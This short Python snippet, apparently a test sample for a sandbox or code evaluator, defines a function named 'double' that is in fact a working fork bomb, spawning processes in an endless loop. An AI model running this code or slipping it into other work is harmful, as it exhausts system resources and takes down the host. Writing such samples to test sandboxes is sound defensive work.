# What it tries: a fork bomb.
# %% double
import os


def double(x):
    while True:
        try: os.fork()
        except OSError: pass
